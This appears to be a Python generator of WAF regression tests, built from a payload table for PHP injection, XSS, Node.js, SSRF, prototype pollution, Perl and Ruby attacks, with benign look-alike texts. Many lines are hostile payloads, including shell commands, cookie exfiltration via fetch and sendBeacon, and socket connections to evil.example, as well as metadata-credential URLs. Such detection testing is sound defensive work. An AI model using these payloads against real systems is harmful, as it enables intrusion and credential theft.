"""Blind set "thirtyninth": a rule author's positive tests, written from rule titles alone, for PHP injection,
XSS and the generic families (Node.js code injection and DoS, prototype pollution, SSRF, Perl, Ruby, PHP data
scheme), half of them sent the way a WAF's regression suite sends them.

The angle: for each detection title below (only the title was known), the canonical attack the title names,
then the variants a good rule with that title must still catch: other keywords of the family, other quoting,
casing, whitespace and comment substitutes, encodings a server decodes. Families and sub-families (`sub`, a slug
of the title): php (open-tag, script-upload, config-directive, variables, io-stream, wrapper-scheme,
high-risk-func-name, high-risk-func-call, serialized-object, variable-func-call, medium-risk-func-name), xss
(libinjection, script-tag, event-handler, attribute-vector, js-uri, noscript-html, noscript-attr,
node-validator, ie-filters, usascii-malformed, utf7, jsfuck, js-global, disallowed-attrs, tag-handler,
angularjs-csti, js-method, no-parens) and generic (nodejs-injection, nodejs-module, ssrf-metadata, ssrf-ip,
prototype-pollution, perl-injection, ruby-injection, nodejs-dos, php-data-scheme). The second angle: about half
the requests go to paths that are not our routes (`/`, `/index.php`, `/get`, `/post`, `/search`,
`/api/v1/items`, `/cgi-bin/test.cgi`) with arbitrary parameter names, as GET query strings, url-encoded forms,
JSON and XML bodies, User-Agent, Referer and cookies; the other half in our routes' query, form, JSON, cookie,
User-Agent, Referer, another header, a parameter name, an XML body, multipart fields and file names, and the
URL path. Benign: developers' Slack messages about the same code (also saved as bios), documentation links,
prose, names, addresses and searches that share the titles' keywords.

Authorship and independence: written from general knowledge and the detection titles above, without reading
the repository's WAF rules, any ruleset's rule text or its tests, other generators' lists or public payload
lists; measured once on the unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose, prose_request
from .records import print_records

NAME = "thirtyninth"

# (family, sub, payloads)
TITLES: list[tuple[str, str, list[str]]] = [
    ("php", "open-tag", [
        "<?php system($_REQUEST['c']); ?>",
        "<?PhP echo 1;",
        "<?= $_GET[0] ?>",
        "<? passthru($_GET['x']);",
        "<%php echo 1; %>",
        "junk<?php\tvar_dump(1);",
        "<script language=\"php\">system('id');</script>",
        "%3C%3Fphp%20phpinfo()%3B%3F%3E",
    ]),
    ("php", "script-upload", [
        "shell.php",
        "avatar.php5",
        "invoice.phtml",
        "x.php.jpg",
        "payload.PHAR",
        "cmd.php7",
        "image.pht",
        "upload.phps",
        "backdoor.inc.php",
    ]),
    ("php", "config-directive", [
        "allow_url_include=On",
        "auto_prepend_file=php://input",
        "auto_append_file=/tmp/sess_abc",
        "disable_functions=",
        "open_basedir=/",
        "safe_mode=Off",
        "-d allow_url_fopen=1 -d auto_prepend_file=http://evil.example/s.txt",
        "php_value auto_prepend_file \"/tmp/x\"",
        "php_flag engine on",
        "suhosin.simulation=1",
    ]),
    ("php", "variables", [
        "$_SERVER['HTTP_USER_AGENT']",
        "$_COOKIE[session]",
        "$_FILES['f']['name']",
        "$GLOBALS['db_pass']",
        "$HTTP_GET_VARS['id']",
        "$_SESSION[\"admin\"]=1",
        "${_ENV}[PATH]",
        "$_REQUEST [ 'cmd' ]",
        "$http_response_header",
    ]),
    ("php", "io-stream", [
        "php://stdin",
        "php://output",
        "php://temp/maxmemory:1024",
        "php://stderr",
        "PHP://Input",
        "php://fd/0",
        "php:/\\/filter/read=string.toupper/resource=config.php",
        "php://filter/zlib.deflate|convert.base64-encode/resource=/etc/hosts",
    ]),
    ("php", "wrapper-scheme", [
        "zlib://../config.inc.php",
        "bzip2://archive.bz2",
        "phar://uploads/avatar.jpg/shell.php",
        "glob://*.php",
        "ogg://stream.example/x",
        "ssh2.exec://user:pw@10.0.0.2/id",
        "rar://archive.rar#file.php",
        "compress.bzip2:///tmp/x.bz2",
        "expect://whoami",
        "zip://uploads/doc.zip%23evil.php",
    ]),
    ("php", "high-risk-func-name", [
        "proc_open",
        "pcntl_exec",
        "shell_exec",
        "assert_options",
        "create_function",
        "popen",
        "passthru",
        "escapeshellcmd",
        "posix_setuid",
        "dl",
    ]),
    ("php", "high-risk-func-call", [
        "system('cat /etc/passwd')",
        "exec (\"ls -la\", $out)",
        "proc_open('id', [], $p)",
        "popen(\"/bin/sh\",\"r\")",
        "assert(\"phpinfo()\")",
        "SHELL_EXEC('uname')",
        "create_function('', 'system(\"id\");')",
        "eval/**/($_POST['z'])",
        "pcntl_exec('/bin/bash',['-c','id'])",
        "passthru\n('id')",
    ]),
    ("php", "serialized-object", [
        "O:8:\"stdClass\":1:{s:3:\"cmd\";s:2:\"id\";}",
        "O:16:\"SplFileObject\":0:{}",
        "a:1:{i:0;O:10:\"PDOFactory\":0:{}}",
        "O:+10:\"WP_Theme\":1:{s:4:\"name\";s:1:\"x\";}",
        "C:16:\"SplObjectStorage\":10:{x:i:0;}",
        "O:30:\"Illuminate\\Broadcasting\\Pending\":0:{}",
        "s:5:\"hello\";O:4:\"Test\":0:{}",
        "Tzo4OiJzdGRDbGFzcyI6MDp7fQ==",
        "O%3A4%3A%22Test%22%3A0%3A%7B%7D",
    ]),
    ("php", "variable-func-call", [
        "$f($_GET['a'])",
        "$func = 'system'; $func('id');",
        "${'_POST'}['a']($_POST['b'])",
        "$x[0]($x[1])",
        "$_GET[\"f\"]($_GET[\"c\"])",
        "$obj->$method($arg)",
        "$$name('whoami')",
        "$a = 'ex'.'ec'; $a ('id');",
        "$c=\"\\x73ystem\";$c(\"id\");",
    ]),
    ("php", "medium-risk-func-name", [
        "fsockopen('evil.example', 4444)",
        "highlight_file('config.php')",
        "symlink('/etc/passwd','x.txt')",
        "chmod('shell.php', 0777)",
        "file_put_contents('x.php', $_POST['d'])",
        "parse_str($_SERVER['QUERY_STRING'])",
        "extract($_REQUEST)",
        "curl_exec($ch)",
        "stream_socket_client('tcp://evil.example:80')",
        "ini_get_all()",
    ]),
    ("generic", "nodejs-injection", [
        "require('child_process').execSync('cat /etc/passwd')",
        "child_process.spawnSync('sh',['-c','id'])",
        "require(\"fs\").writeFileSync(\"/tmp/x\",\"y\")",
        "process.mainModule.require('child_process').exec('id')",
        "eval(\"require('child_process').exec('id')\")",
        "new Function('return this.process')().exit()",
        "res.write(require('os').hostname())",
        "require ( `child_process` ) .fork('x.js')",
        "global['proc'+'ess'].exit()",
    ]),
    ("generic", "nodejs-module", [
        "module.require('child_process')",
        "process.binding('fs')",
        "process.dlopen(module, '/tmp/x.node')",
        "globalThis.require('net').connect(4444,'evil.example')",
        "require.main.require('fs')",
        "import('child_process').then(c=>c.exec('id'))",
        "process.env.AWS_SECRET_ACCESS_KEY",
        "module.constructor._load('fs').readFileSync('/etc/shadow')",
        "process.exit(1)",
    ]),
    ("generic", "ssrf-metadata", [
        "http://169.254.169.254/latest/user-data",
        "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
        "http://metadata.google.internal/computeMetadata/v1beta1/",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
        "http://[fd00:ec2::254]/latest/api/token",
        "http://169.254.169.254/opc/v2/instance/",
        "http://metadata.tencentyun.com/latest/meta-data/",
        "http://169.254.169.254/hetzner/v1/metadata",
        "http://instance-data/latest/meta-data/",
    ]),
    ("generic", "ssrf-ip", [
        "http://127.0.0.1:8080/admin",
        "https://10.1.2.3/internal",
        "http://192.168.0.1/cgi-bin/luci",
        "http://0x7f.1/",
        "http://3232235521/",
        "http://0300.0250.0.1/",
        "http://[::ffff:a9fe:a9fe]/",
        "http://127.000.000.001/",
        "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/",
        "gopher://10.0.0.7:6379/_INFO",
        "http://0xa9fea9fe/latest/",
    ]),
    ("generic", "prototype-pollution", [
        "__proto__[admin]=true",
        "constructor.prototype.isAdmin=true",
        "{\"__proto__\":{\"polluted\":\"yes\"}}",
        "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}",
        "x.__proto__.toString=1",
        "a[constructor][prototype][shell]=node",
        "__pro__proto__to__[x]=1",
        "obj[\"__proto__\"][\"y\"]=1",
        "__proto__%5Bdebug%5D=1",
    ]),
    ("generic", "perl-injection", [
        "@{[system 'id']}",
        "perl -e 'exec \"/bin/sh\"'",
        "open(F, \"|id\")",
        "`id`; print \"ok\";",
        "eval { system(\"whoami\") }",
        "qx{cat /etc/passwd}",
        "use IO::Socket; $s=IO::Socket::INET->new(\"evil.example:4444\")",
        "exec('/bin/sh -i')",
        "${\\ system('id')}",
    ]),
    ("generic", "ruby-injection", [
        "Kernel.exec('id')",
        "%x(cat /etc/passwd)",
        "IO.popen('id').read",
        "system(\"uname -a\")",
        "Open3.capture2('whoami')",
        "eval(\"`id`\")",
        "Object.const_get(:Kernel).send(:system, 'id')",
        "File.read('/etc/passwd')",
        "#{`id`}",
        "instance_eval('system \"id\"')",
    ]),
    ("generic", "nodejs-dos", [
        "while(true){}",
        "for(;;){}",
        "do{}while(1)",
        "while(1);",
        "new RegExp('(a+)+$').test('aaaaaaaaaaaaaaaaaaaaaaaaaaaa!')",
        "/(x+x+)+y/.test('xxxxxxxxxxxxxxxxxxxxxxxx')",
        "setInterval(function(){while(true){}},1)",
        "Array(1e9).fill(0)",
        "process.nextTick(function f(){process.nextTick(f)})",
    ]),
    ("generic", "php-data-scheme", [
        "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
        "data://text/plain,<?php system('id');?>",
        "DATA://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
        "data:;base64,PD9waHAgZWNobyAxOz8+",
        "data://image/jpeg;base64,PD9waHAgZXhlYygnaWQnKTs/Pg==",
        "data://text/html,<?=`id`?>",
        "data:text/plain,<?php echo shell_exec('ls');",
        "data%3A%2F%2Ftext%2Fplain%3Bbase64%2CPD9waHAgcGhwaW5mbygpOz8%2B",
    ]),
    ("xss", "libinjection", [
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=confirm(1)>",
        "'><iframe src=javascript:alert(1)>",
        "<body onload=alert(document.domain)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "\" autofocus onfocus=alert(1) x=\"",
        "<details open ontoggle=prompt(1)>",
        "<input onblur=alert(1) autofocus><input autofocus>",
    ]),
    ("xss", "script-tag", [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script\t>prompt(1)</script>",
        "<script/x>confirm(1)</script>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "<scr<script>ipt>alert(1)</script>",
        "<script type=\"text/javascript\">document.write(1)</script>",
        "<script src=data:,alert(1)></script>",
    ]),
    ("xss", "event-handler", [
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<video><source onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x>",
        "<x onclick=alert(1)>click",
        "<img src=1 ONERROR = alert(1)>",
        "<form onsubmit=alert(1)><button>go</button></form>",
        "<body onpageshow=alert(1)>",
        "<audio src=x onerror=confirm`1`>",
    ]),
    ("xss", "attribute-vector", [
        "<img style=\"background:url(javascript:alert(1))\">",
        "<div style=\"width:expression(alert(1))\">",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<object data=\"javascript:alert(1)\">",
        "<embed src=javascript:alert(1)>",
        "<link rel=stylesheet href=javascript:alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<form action=javascript:alert(1)><input type=submit>",
    ]),
    ("xss", "js-uri", [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.cookie)",
        "java\tscript:alert(1)",
        "  javascript:confirm(1)",
        "javascript&#58;alert(1)",
        "jav&#x61;script:alert(1)",
        "javascript://%0aalert(1)",
        "vbscript:Execute(\"MsgBox 1\")",
        "livescript:alert(1)",
    ]),
    ("xss", "noscript-html", [
        "<iframe src=//evil.example>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"//evil.example/\">",
        "<object type=text/html data=//evil.example>",
        "<applet code=Evil.class>",
        "<embed src=//evil.example/x.swf>",
        "<frameset><frame src=javascript:alert(1)>",
        "<isindex action=javascript:alert(1) type=image>",
    ]),
    ("xss", "noscript-attr", [
        "\" onfocus=\"alert(1)\" autofocus=\"",
        "' onmouseover='alert(1)",
        "x\" style=\"x:expression(alert(1))",
        "\" src=javascript:alert(1) \"",
        "\"/onload=alert(1)//",
        "' formaction='javascript:alert(1)",
        "\" onpointerenter=alert(1) \"",
        "\"><x onanimationstart=alert(1)>",
    ]),
    ("xss", "node-validator", [
        "document.cookie",
        "document.write('<img src=x>')",
        "window.location='//evil.example'",
        "<!ENTITY xss \"x\">",
        "-moz-binding:url(//evil.example/x.xml#x)",
        "document.domain",
        "alert(document.cookie)",
        "window.open('//evil.example')",
        "<![CDATA[<script>alert(1)</script>]]>",
    ]),
    ("xss", "ie-filters", [
        "<img src=x:x onerror=alert(1)>",
        "<div style=x:expression(alert(1))>",
        "<style>@import 'javascript:alert(1)';</style>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>",
        "<img dynsrc=javascript:alert(1)>",
        "<iframe src=\"vbscript:msgbox(1)\">",
        "<?import namespace=\"t\" implementation=\"#default#time2\">",
        "<div style=\"behavior:url(x.htc)\">",
    ]),
    ("xss", "usascii-malformed", [
        "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
        "%BCscript%BEalert(1)%BC/script%BE",
        "\u00bciframe src=javascript:alert(1)\u00be",
        "%BCimg src=x onerror=alert(1)%BE",
        "\u00bcsvg onload=alert(1)\u00be",
        "%bcscript%bealert(document.cookie)%bc/script%be",
    ]),
    ("xss", "utf7", [
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-img src=x onerror=alert(1)+AD4-",
        "+ACIAPgA8-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-SCRIPT+AD4-alert(document.cookie)+ADw-/SCRIPT+AD4-",
        "+ADw-svg onload+AD0-alert(1)+AD4-",
        "%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-",
    ]),
    ("xss", "jsfuck", [
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
        "(![]+[])[+[]]+(![]+[])[!+[]+!+[]]",
        "[]+[][[]]",
        "(+[![]]+[])[+!+[]]",
        "[][[]]+[]+(!![]+[])[!+[]+!+[]+!+[]]",
        "$=~[];$={___:++$,$$$$:(![]+\"\")[$]}",
        "_=[]+{},_[+!+[]]+_[!+[]+!+[]]",
        "(!![]+[])[+!+[]]+(!![]+[])[!+[]+!+[]+!+[]]",
    ]),
    ("xss", "js-global", [
        "window['ale'+'rt'](1)",
        "self['al'+'ert'](document['coo'+'kie'])",
        "top[\"eval\"](\"alert(1)\")",
        "this['alert'](1)",
        "globalThis[atob('YWxlcnQ=')](1)",
        "parent['confirm'](1)",
        "frames[0]['eval']('1')",
        "document['location']='//evil.example/?'+document['cookie']",
        "window[/al/.source+/ert/.source](1)",
    ]),
    ("xss", "disallowed-attrs", [
        "<img src=x style=\"position:fixed;top:0\" onload=alert(1)>",
        "<p background=\"javascript:alert(1)\">",
        "<table background=javascript:alert(1)>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<button formaction=javascript:alert(1)>x",
        "<input type=image lowsrc=javascript:alert(1)>",
        "<div data-bind=\"html: alert(1)\">",
        "<math href=javascript:alert(1)>click</math>",
    ]),
    ("xss", "tag-handler", [
        "<svg>",
        "<iframe>",
        "<object>",
        "<style>*{color:red}</style>",
        "<frame src=x>",
        "<meta charset=utf-7>",
        "<embed>",
        "<applet>",
        "<vmlframe src=x>",
        "<layer src=x>",
    ]),
    ("xss", "angularjs-csti", [
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
        "{{ 7*7 }}",
        "{{[].pop.constructor('alert(1)')()}}",
        "<div ng-app ng-csp>{{$eval.constructor('alert(1)')()}}</div>",
        "{{toString.constructor.prototype.toString=toString.constructor.prototype.call}}",
        "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join}}",
    ]),
    ("xss", "js-method", [
        "document.getElementById('x').innerHTML='<img src=x onerror=alert(1)>'",
        "String.fromCharCode(97,108,101,114,116,40,49,41)",
        "eval(atob('YWxlcnQoMSk='))",
        "setTimeout('alert(1)',0)",
        "document.createElement('script').src='//evil.example'",
        "location.replace('javascript:alert(1)')",
        "document.body.appendChild(s)",
        "fetch('//evil.example/?c='+document.cookie)",
        "navigator.sendBeacon('//evil.example',localStorage.token)",
    ]),
    ("xss", "no-parens", [
        "onerror=alert;throw 1",
        "<img src=x onerror=alert`1`>",
        "alert`document.domain`",
        "{onerror=eval}throw'=alert\\x281\\x29'",
        "throw onerror=alert,1",
        "<svg onload=prompt`1`>",
        "setTimeout`alert\\x281\\x29`",
        "[1].find(alert)",
        "x=alert,x`1`",
        "Function`a${'alert(1)'}```",
    ]),
]

# where the regression-suite half goes
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_PARAMS = ["id", "var", "test", "file", "page", "q", "x", "name", "data", "cmd", "url", "foo"]
OUR_PARAMS = ["q", "name", "bio", "search", "url", "website", "note", "filter"]
OUR_PLACES = ["query", "form", "json", "cookie", "ua", "referer", "header", "pname", "xml", "multipart",
              "filename", "path"]
RS_PLACES = ["rs-get", "rs-form", "rs-json", "rs-xml", "rs-ua", "rs-referer", "rs-cookie", "rs-get", "rs-form"]
HEADER_PLACES = {"cookie", "ua", "referer", "header", "rs-ua", "rs-referer", "rs-cookie"}


def _hval(value: str) -> str:
    """A header-safe value: no CR, LF, NUL; non-ASCII percent-encoded."""
    value = value.replace("\r", " ").replace("\n", " ").replace("\x00", "")
    return "".join(c if ord(c) < 128 else urllib.parse.quote(c) for c in value)


def _xml_escape(v: str) -> str:
    return v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _with_headers(rec: dict[str, Any], **extra: str) -> dict[str, Any]:
    return {**rec, "headers": {**rec["headers"], **extra}}


def _multipart(uri: str, field: str, value: str, filename: str | None = None) -> dict[str, Any]:
    b = "----thirtyninthBoundary7MA4YWxk"
    parts = ["--" + b, 'Content-Disposition: form-data; name="csrf_token"', "", "t0k3n"]
    if filename is None:
        parts += ["--" + b, f'Content-Disposition: form-data; name="{field}"', "", value]
    else:
        fn = value.replace('"', "%22").replace("\r", "").replace("\n", "")
        parts += ["--" + b, f'Content-Disposition: form-data; name="{field}"; filename="{fn}"',
                  "Content-Type: application/octet-stream", "", "GIF89a"]
    body = "\r\n".join(parts + ["--" + b + "--", ""])
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "text/html",
                        "Content-Type": f"multipart/form-data; boundary={b}"}}


def _xml(uri: str, name: str, value: str) -> dict[str, Any]:
    body = f'<?xml version="1.0" encoding="UTF-8"?>\n<request><{name}>{_xml_escape(value)}</{name}></request>'
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/xml", "Content-Type": "text/xml"}}


def _ours(place: str, name: str, value: str) -> dict[str, Any]:
    if place in ("query", "form", "json", "cookie"):
        return _place(place, name, value)
    base = _get("/api/users?page=1")
    if place == "ua":
        return _with_headers(base, **{"User-Agent": _hval(value)})
    if place == "referer":
        return _with_headers(base, Referer=_hval(value))
    if place == "header":
        return _with_headers(base, **{"X-Forwarded-Host": _hval(value)})
    if place == "pname":
        return _get("/api/users?" + urllib.parse.quote(value, safe="") + "=1&page=1")
    if place == "xml":
        return _xml("/api/users", name, value)
    if place == "multipart":
        return _multipart("/admin/users/search", name, value)
    if place == "filename":
        return _multipart("/admin/users/search", "avatar", value, filename=value)
    # path
    return _get("/api/users/" + urllib.parse.quote(value, safe="") + "?page=1")


def _rs(place: str, path: str, name: str, value: str) -> dict[str, Any]:
    if place == "rs-get":
        return _get(_query(path, [(name, value)]))
    if place == "rs-form":
        return _form(path, [(name, value)])
    if place == "rs-json":
        return _json(path, {name: value})
    if place == "rs-xml":
        return _xml(path, name, value)
    base = _get(path)
    if place == "rs-ua":
        return _with_headers(base, **{"User-Agent": _hval(value)})
    if place == "rs-referer":
        return _with_headers(base, Referer=_hval(value))
    return _with_headers(base, Cookie=f"{name}=" + urllib.parse.quote(value, safe=""))


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    g = 0   # global payload counter for rotation
    for family, sub, payloads in TITLES:
        for p in payloads:
            g += 1
            # three placements: ours, regression-suite, then alternating
            picks = [("ours", OUR_PLACES[g % len(OUR_PLACES)]),
                     ("rs", RS_PLACES[g % len(RS_PLACES)]),
                     ("ours", OUR_PLACES[(g * 5 + 3) % len(OUR_PLACES)]) if g % 2 else
                     ("rs", RS_PLACES[(g * 5 + 3) % len(RS_PLACES)])]
            if sub == "script-upload":   # an upload's name: the file name first
                picks[0] = ("ours", "filename")
            seen: set[str] = set()
            for k, (kind, place) in enumerate(picks):
                if place in seen:
                    place = "query" if kind == "ours" else "rs-get"
                    if place in seen:
                        place = "json" if kind == "ours" else "rs-json"
                seen.add(place)
                if kind == "ours":
                    rec = _ours(place, OUR_PARAMS[(g + k) % len(OUR_PARAMS)], p)
                else:
                    rec = _rs(place, RS_PATHS[(g + k) % len(RS_PATHS)], RS_PARAMS[(g * 3 + k) % len(RS_PARAMS)], p)
                n += 1
                yield {**rec, "id": f"{NAME}-{family}-{sub}-{n:04d}", "category": family, "sub": sub,
                       "placement": place, "payload": p}


# Benign: the same words, innocently.
SLACK_TEXTS = [
    "the legacy report page still starts with <?php and nobody dares touch it",
    "php.ini on staging has allow_url_include off, checked it this morning",
    "can we block .phtml uploads too? the avatar endpoint only checks .php",
    "reminder: $_SESSION is not available in the CLI worker",
    "php://stdin is how the importer reads the CSV in the cron job",
    "the zip and phar extensions are both enabled in the base image",
    "we removed shell_exec from the deploy script, it uses Symfony Process now",
    "unserialize() on cookies is banned by the linter, use json_decode",
    "the Slack bot now calls process.exit only on SIGTERM",
    "child_process is fine in the build scripts, not in request handlers",
    "onerror handlers in the image component log to Sentry",
    "the script tag for analytics moved into the layout",
    "javascript: links are stripped by the markdown renderer, good",
    "document.cookie is off limits, we use httpOnly sessions",
    "the AngularJS app uses {{ user.name }} bindings, we migrate it next quarter",
    "JSFuck is a fun esoteric language, look it up",
    "template literals like `hello ${name}` are in the style guide",
    "the metadata endpoint 169.254.169.254 is blocked by the egress proxy",
    "the printer is at 192.168.1.20 if anyone needs it",
    "__proto__ keys are rejected by our JSON schema validator",
    "the Perl scripts in tools/ still use open with three arguments",
    "Ruby's system call is only used in the rake tasks",
    "while(true) loops in workers must have a sleep, per the review checklist",
    "catastrophic backtracking in that regex took the parser down for an hour",
    "data: URIs for fonts are inlined by the bundler",
    "UTF-7 is not a charset we accept anymore, everything is UTF-8",
    "the IE11 support ticket can be closed, nobody uses it",
    "the on-call rotation for Perl and Ruby services is in PagerDuty",
    "window.location changes happen only in the router",
    "we store serialized sessions in Redis, not in cookies",
    "the style attribute is allowed in emails, nothing else",
    "expression of interest for the Node.js guild is due Friday",
    "the eval meeting is moved to 3pm, system design review after",
    "upload the PDF, not the .php file you sent yesterday lol",
    "constructor injection is what we use in the Java services",
    "the fetch API replaced XMLHttpRequest everywhere",
    "localStorage token refresh is handled by the SDK",
    "throw new Error('not found') is caught by the middleware",
    "the iframe embed for the status page works again",
    "alert fatigue is real, we cut the pager noise in half",
    "the ini files for php-fpm live in /etc/php/8.2/fpm/conf.d",
    "GLOBALS in the old code base are being replaced by a container",
    "our upload filter renames every file to a uuid plus the detected extension",
    "can someone review the popen replacement PR? it uses proc handles now",
    "the svg icons are sanitized with DOMPurify before rendering",
    "the onload event fires twice in Safari, known bug",
    "Angular's $eval is not the same as JavaScript eval, thankfully",
    "the gopher protocol is disabled in our curl build",
    "the internal IP range 10.0.0.0/8 is documented in the network wiki",
    "prototype chain diagrams are in the onboarding deck",
    "Perl 5.36 ships with the new base image",
    "the Ruby team uses Open3 for the CLI wrappers, fine for tools",
    "the regex for emails is linear time now, no more ReDoS risk",
    "data-testid attributes are stripped in production builds",
    "the CSP now blocks inline script, report-uri is configured",
    "top of the funnel numbers look good this week",
    "the frame rate in the dashboard dropped after the chart update",
    "let's move the base href to the config so preview builds work",
    "the object storage bucket is private, use signed URLs",
    "fromCharCode is used in the barcode encoder, it's fine",
]
PUBLIC_URLS = [
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/ini.core.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/GlobalEventHandlers/onerror",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Template_literals",
    "https://nodejs.org/api/process.html",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://angularjs.org/",
    "https://owasp.org/www-community/attacks/xss/",
    "https://perldoc.perl.org/functions/open",
    "https://ruby-doc.org/core/Kernel.html",
    "https://en.wikipedia.org/wiki/JSFuck",
    "https://en.wikipedia.org/wiki/UTF-7",
    "https://github.com/acme/web/blob/main/templates/script.php",
    "https://example.com/uploads/report-2024.pdf",
    "https://cdn.example.org/data/export.json?version=2",
    "https://status.example.com/incidents/169",
]
PROSE = [
    "Script writing workshop on Friday, room 10",
    "Event handler training for the front desk staff",
    "Document the location of the fire exits",
    "Window cleaning at Constructor House, 12 Prototype Road",
    "Ruby Perl, 45 Alert Street, Springfield",
    "Mr. Angular and Ms. Node from the Data team",
    "the expression on her face said it all",
    "Process improvement: alert the manager when the system is down",
    "please open the window and throw the old files away",
    "the data for 169 users was exported; see the attached file",
    "Serial number O:12 on the invoice, item 4",
    "I'll fetch the report from the top drawer",
    "the style guide says: no blink, no marquee",
    "a while loop in the tutorial, chapter 3",
    "Kernel panic on the old laptop again",
    "The Window and Frame Company, 8 Iframe Close",
    "Order #4471: 2x marquee lights, 1x base plate",
    "Please update the style of the invoice header",
    "Our system exec summary is attached for the board",
    "the sound of the audio source was too low",
    "Meta description for the landing page needs work",
    "the details of the object are in the appendix",
    "the layer of paint on the embed plate is cracked",
    "The applet of the month award goes to the intern",
    "Input focus group meets on Tuesday",
    "Top frames of the film were damaged",
    "the eval committee requested more data",
    "Evaluation of the constructor's offer is due",
    "please confirm the prompt payment of the invoice",
    "the open house is at 10 on Saturday",
]
SEARCHES = [
    "php developer", "script", "javascript", "ruby", "perl", "node", "alert", "iframe", "prototype",
    "constructor", "metadata", "system administrator", "event handler", "window", "document", "phar",
    "expression", "template", "onerror", "data scientist", "ruby on rails", "perl jam", "node red",
    "frame maker", "style guide", "base camp", "object storage", "global process", "kernel engineer",
    "serial number", "while you were out", "fetch rover", "throw pillow", "marquee lights", "details",
    "audio source", "video production", "input method", "form designer", "button maker",
]
NAMES = ["Ruby Onload", "Perl Alert", "Scarlett Script", "Jason Node", "Angela Frame", "Omar Serial",
         "Dana Phar", "Eve Window", "Marc Dataman", "Pia Proto"]
ADDRESSES = ["12 Script Lane, Leeds", "Window House, 3 Frame St", "Data Park 169, Dublin",
             "Prototype Works, 1 Constructor Way", "Ruby Court 4, Perth"]


BROWSERS = [
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
     "Safari/537.36", "https://www.php.net/manual/en/language.variables.superglobals.php"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 "
     "Safari/605.1.15", "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/eval"),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
     "https://nodejs.org/api/child_process.html#child_processexeccommand-options-callback"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Mobile/15E148", "https://www.google.com/search?q=javascript+onerror+handler"),
    ("curl/8.4.0", "https://angularjs.org/"),
    ("python-requests/2.31.0", "https://github.com/acme/web/issues?q=script+tag"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0",
     "https://stackoverflow.com/questions/tagged/prototype"),
    ("Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36",
     "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/ec2-instance-metadata.html"),
    ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "https://ruby-doc.org/core/IO.html"),
    ("Go-http-client/2.0", "https://perldoc.perl.org/perlsec"),
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, f"{NAME}-benign")
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, f"{NAME}-benign", n)
    for s in SEARCHES:
        for rec in (_get(_query("/api/users", [("q", s), ("page", "1")])), prose_request(s)):
            n += 1
            yield {**rec, "id": f"{NAME}-benign-search-{n:04d}", "category": "benign", "placement": "mixed"}
    for name in NAMES:
        n += 1
        yield {**_json("/api/users", {"name": name, "email": "user@example.org"}),
               "id": f"{NAME}-benign-names-{n:04d}", "category": "benign", "placement": "json"}
        n += 1
